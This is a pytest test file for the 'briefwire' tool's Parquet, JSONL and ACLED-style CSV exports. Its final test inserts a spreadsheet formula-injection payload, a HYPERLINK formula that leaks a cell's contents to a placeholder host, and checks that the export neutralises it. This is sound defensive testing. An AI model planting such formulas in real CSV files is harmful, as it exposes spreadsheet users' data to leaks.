"""Datasets analysts open directly: Parquet per kind, a month-partitioned dataset, ACLED-style CSV."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from briefwire import api
from briefwire.cli import app
from briefwire.report import KINDS
from briefwire.report.acled import COLUMNS
from briefwire.report.export import FIELDS

from .ledgers import backfill_ledger


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return backfill_ledger(tmp_path_factory.mktemp("ledger") / "l.db")


def _rows(db: Path, kind: str) -> list[dict[str, Any]]:
    """The kind as JSONL export writes it (JSON round trip: what an outside tool reads)."""
    out = io.StringIO()
    with api.Workspace(db) as ws:
        api.export(ws, kind, "jsonl", out)
    return [json.loads(line) for line in out.getvalue().splitlines()]


def _same(a: Any, b: Any) -> bool:
    """Equal, allowing 3 == 3.0 (a count is a double in Parquet's quantity struct)."""
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(_same(a[k], b[k]) for k in a)
    if isinstance(a, list) and isinstance(b, list):
        return len(a) == len(b) and all(_same(x, y) for x, y in zip(a, b, strict=True))
    if isinstance(a, int | float) and isinstance(b, int | float) and not isinstance(a, bool):
        return math.isclose(a, b)
    return bool(a == b)


@pytest.mark.parametrize("kind", KINDS)
def test_parquet_export_holds_every_field_of_the_kind_with_the_jsonl_values(
    ledger: Path, tmp_path: Path, kind: str
) -> None:
    with api.Workspace(ledger) as ws:
        n = api.export_parquet(ws, kind, tmp_path / f"{kind}.parquet")
    got = pq.read_table(tmp_path / f"{kind}.parquet")
    assert got.column_names == list(FIELDS[kind])
    expected = _rows(ledger, kind)
    assert n == got.num_rows == len(expected)
    for have, want in zip(got.to_pylist(), expected, strict=True):
        assert _same(have, want), f"{kind}: {have} != {want}"


def test_parquet_nested_fields_are_struct_and_list_columns(ledger: Path, tmp_path: Path) -> None:
    with api.Workspace(ledger) as ws:
        api.export_parquet(ws, "claims", tmp_path / "claims.parquet")
        api.export_parquet(ws, "casualties", tmp_path / "casualties.parquet")
    claims = pq.read_schema(tmp_path / "claims.parquet")
    assert pa.types.is_struct(claims.field("location").type)
    assert claims.field("location").type.field("admin1_code").type == pa.string()
    assert pa.types.is_list(claims.field("actors").type)
    assert pa.types.is_struct(claims.field("actors").type.value_type)
    assert claims.field("quantity").type.field("value").type == pa.float64()
    assert claims.field("claimed_by").type == pa.list_(pa.string())
    assert pq.read_schema(tmp_path / "casualties.parquet").field("doc_ids").type == pa.list_(pa.string())


def test_export_all_parquet_is_a_month_partitioned_dataset_duckdb_and_pandas_read(
    ledger: Path, tmp_path: Path
) -> None:
    duckdb = pytest.importorskip("duckdb")
    pandas = pytest.importorskip("pandas")
    con = duckdb.connect()
    out = tmp_path / "dataset"
    result = CliRunner().invoke(
        app, ["export", "all", "--db", str(ledger), "--format", "parquet", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    months = {d["doc_id"]: d["published"][:7] for d in _rows(ledger, "documents")}
    claims = _rows(ledger, "claims")
    expected: dict[str, int] = {}
    for c in claims:
        expected[months[c["doc_id"]]] = expected.get(months[c["doc_id"]], 0) + 1
    assert len(expected) > 1, "the backfill spans more than one month"
    query = f"""SELECT month, count(*) FROM read_parquet('{out}/claims/*/*.parquet', hive_partitioning = true)
                GROUP BY month"""
    assert dict(con.execute(query).fetchall()) == expected
    places = con.execute(
        f"SELECT count(*) FROM read_parquet('{out}/claims/*/*.parquet', hive_partitioning = true) "
        "WHERE location.admin1_code IS NOT NULL"
    ).fetchone()
    assert places is not None and places[0] == sum(
        1 for c in claims if (c["location"] or {}).get("admin1_code")
    )
    actors = con.execute(
        f"SELECT count(*) FROM (SELECT unnest(actors) FROM read_parquet('{out}/events/*/*.parquet'))"
    ).fetchone()
    assert actors is not None and actors[0] == sum(len(e["actors"]) for e in _rows(ledger, "events"))
    for kind in KINDS:
        assert len(pandas.read_parquet(out / kind)) == len(_rows(ledger, kind)), kind
    assert json.loads((out / "manifest.json").read_text())["rows"]["claims"] == len(claims)


def test_export_all_refuses_to_replace_a_folder_that_is_not_a_dataset(ledger: Path, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    result = CliRunner().invoke(
        app, ["export", "all", "--db", str(ledger), "-f", "parquet", "--out", str(tmp_path)]
    )
    assert result.exit_code == 2
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine"


def test_export_all_jsonl_writes_a_file_per_kind(ledger: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(app, ["export", "all", "--db", str(ledger), "--out", str(tmp_path / "d")])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "d").iterdir()) == sorted(f"{k}.jsonl" for k in KINDS)


def test_parquet_export_needs_an_output_file(ledger: Path) -> None:
    result = CliRunner().invoke(app, ["export", "claims", "--db", str(ledger), "--format", "parquet"])
    assert result.exit_code == 2 and "--out" in result.output


def _acled(db: Path) -> list[dict[str, str]]:
    out = io.StringIO()
    with api.Workspace(db) as ws:
        api.export_acled(ws, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_acled_csv_has_one_flat_row_per_event_with_fatalities_where_a_count_is_known(ledger: Path) -> None:
    rows = _acled(ledger)
    events = {e["event_id"]: e for e in _rows(ledger, "events")}
    assert rows and list(rows[0]) == list(COLUMNS)
    assert {r["event_id"] for r in rows} == set(events)
    for r in rows:
        e = events[r["event_id"]]
        loc = e["location"] or {}
        assert r["admin1_code"] == (loc.get("admin1_code") or "")
        assert r["event_type"] == e["type"] and r["notes"] == e["summary"]
        counted = e["type"] == "casualty" and e["quantity"] and e["quantity"]["value"] is not None
        assert r["fatalities"] == (str(int(e["quantity"]["value"])) if counted else "")
        assert r["time_precision"] == {"day": "1", "week": "2", "month": "3"}.get(
            e["date_precision"], r["time_precision"]
        )
    assert any(r["fatalities"] == "" for r in rows), "events without a count have no fatalities, not 0"


def test_acled_csv_applies_the_desk_decisions(ledger: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.db"
    db.write_bytes(ledger.read_bytes())
    events = _rows(db, "events")
    rejected, edited = events[0]["event_id"], events[1]["event_id"]
    with api.Workspace(db) as ws:
        ws.store.add_decision("event", rejected, "reject", "olga")
        ws.store.add_decision("event", edited, "edit", "olga", field="summary", value="Checked by the desk")
    rows = {r["event_id"]: r for r in _acled(db)}
    assert rejected not in rows
    assert rows[edited]["notes"] == "Checked by the desk" and rows[edited]["review_state"] == "edited"


def test_acled_csv_cell_that_would_run_as_a_formula_is_neutralised(ledger: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.db"
    db.write_bytes(ledger.read_bytes())
    event = _rows(db, "events")[0]["event_id"]
    formula = '=HYPERLINK("http://example.invalid/?"&A1, "open")'
    with api.Workspace(db) as ws:
        ws.store.add_decision("event", event, "edit", "olga", field="summary", value=formula)
    row = next(r for r in _acled(db) if r["event_id"] == event)
    assert row["notes"] == "'" + formula
